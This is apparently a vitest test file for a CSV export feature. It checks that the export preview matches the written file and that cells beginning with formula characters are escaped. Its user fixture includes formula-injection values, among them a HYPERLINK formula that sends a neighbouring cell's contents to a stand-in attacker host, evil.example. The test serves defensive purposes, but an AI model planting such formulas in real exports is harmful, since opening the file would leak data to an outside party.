import fs from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { Member } from "../../../src-main/export/identity.ts";
import { previewExport, runExport } from "../../../src-main/export/run-export.ts";
import type { Workspace } from "../../../src-main/workspace/workspace.ts";
import type { ExportPreset } from "../../../src-preload/contract/methods/export.ts";
import { fakeEngine, tmpDir, workspaceWith } from "./helpers.ts";

// The export dialog's preview promises the first rows exactly as the file holds them: it is checked
// here against the written file parsed back, not against the code that builds it.

let open: Workspace[] = [];
afterEach(() => {
  for (const w of open) w.close();
  open = [];
});

/** RFC 4180 records (CRLF ends a record; quoted fields may hold commas, quotes, CR and LF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const ch = text[at];
    if (quoted) {
      if (ch !== '"') field += ch;
      else if (text[at + 1] === '"') {
        field += '"';
        at++;
      } else quoted = false;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      record.push(field);
      field = "";
    } else if (ch === "\r" && text[at + 1] === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      at++;
    } else field += ch;
  }
  return records;
}

const users: Member[] = [
  {
    externalId: " u-1 ",
    attributes: {
      plan: "-2+3",
      note: '=HYPERLINK("http://evil.example/?"&A2,"x")',
      phone: "+1 650 555 1212",
      first_name: " Ana ",
      " =SUM(1)": "@x",
    },
  },
  { externalId: "u-2", attributes: { plan: " pro ", note: 'a, "b"', first_name: "+cmd", " =SUM(1)": "-5" } },
  { externalId: "=u-3", attributes: { plan: "\t=1", note: " -12.5", first_name: "Bo" } },
];

describe("previewExport", () => {
  it.each<ExportPreset>(["csv", "braze"])(
    "shows the %s file's header and first rows exactly as written",
    async (preset) => {
      const dir = tmpDir();
      const ws = workspaceWith(dir, users);
      open.push(ws);
      const engine = fakeEngine(users);
      const request = {
        segment: { definition: { all: [] } },
        preset,
        attributes: ["plan", "note", " =SUM(1)"],
      };
      const out = path.join(dir, `${preset}.csv`);
      await runExport({ ws, engine: () => engine, request: { ...request, out } });
      const [header, ...rows] = parseCsv(fs.readFileSync(out, "utf8"));
      const preview = await previewExport(ws, () => engine, { ...request, limit: 2 });
      expect(preview.header).toEqual(header);
      expect(preview.rows).toEqual(rows.slice(0, 2));
      // the workspace holds what the comparison is about
      expect(preview.rows[0]).toContain("'-2+3");
      expect(preview.rows[1]).toContain(" pro ");
    },
  );
});
